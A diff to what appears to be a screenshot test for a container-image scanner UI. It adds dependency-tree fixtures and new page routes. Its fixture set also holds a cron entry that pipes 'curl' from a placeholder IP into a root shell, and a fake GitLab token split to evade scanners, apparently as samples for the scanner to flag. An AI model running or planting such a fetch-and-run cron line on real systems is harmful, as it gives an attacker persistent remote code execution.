@@ -32,6 +32,19 @@ async function fill(server: TestServer): Promise<void> {
     instruction: 'RUN /bin/sh -c npm ci --omit=dev # buildkit',
     files: [
       { path: 'app/server.js', text: 'x'.repeat(90_000) },
+      {
+        path: 'app/node_modules/express/package.json',
+        text: '{"name":"express","version":"4.18.2","dependencies":{"debug":"2","send":"0.18"}}',
+      },
+      {
+        path: 'app/node_modules/send/package.json',
+        text: '{"name":"send","version":"0.18.0","dependencies":{"debug":"2","ms":"2"}}',
+      },
+      {
+        path: 'app/node_modules/debug/package.json',
+        text: '{"name":"debug","version":"2.6.9","dependencies":{"ms":"2"}}',
+      },
+      { path: 'app/node_modules/ms/package.json', text: '{"name":"ms","version":"2.0.0"}' },
       { path: 'app/.env', text: `GITLAB_TOKEN=${['glpat', 'Zk3hXcv7Pq0y1Lr9tUw2'].join('-')}\n` },
       { path: 'etc/cron.d/update', text: '* * * * * root curl -s http://203.0.113.9/x | sh\n' },
     ],
@@ -148,6 +161,10 @@ const pages: readonly (readonly [name: string, path: string])[] = [
   ['hygiene', '/r/shop/storefront:4.8.2?tab=hygiene'],
   ['hygiene-debian', `${big}?tab=hygiene`],
   ['packages', `${big}?tab=packages`],
+  ['packages-tree', '/r/shop/storefront:4.8.2?tab=packages&view=tree'],
+  ['packages-way', '/r/shop/storefront:4.8.2?tab=packages&view=tree'],
+  ['compare', '/r/shop/storefront:4.8.2?tab=compare&with=4.8.1'],
+  ['compare-none', '/r/shop/storefront:4.8.2?tab=compare'],
   ['layers', '/r/shop/storefront:4.8.2?tab=layers&layer=1'],
   ['configuration', '/r/shop/storefront:4.8.2?tab=configuration'],
   ['referrers', '/r/shop/storefront:4.8.2?tab=referrers'],
@@ -182,6 +199,7 @@ async function shoot(server: TestServer, list: typeof pages, signedIn: boolean):
           await page.locator('tbody a[data-row]').first().click();
           await page.waitForSelector('.drawer');
         }
+        if (name === 'packages-way') await page.locator('.tree a.name').first().click();
         await page.waitForTimeout(200);
         await page.screenshot({
           path: join(folder, `${name}-${width}-${colorScheme}.png`),
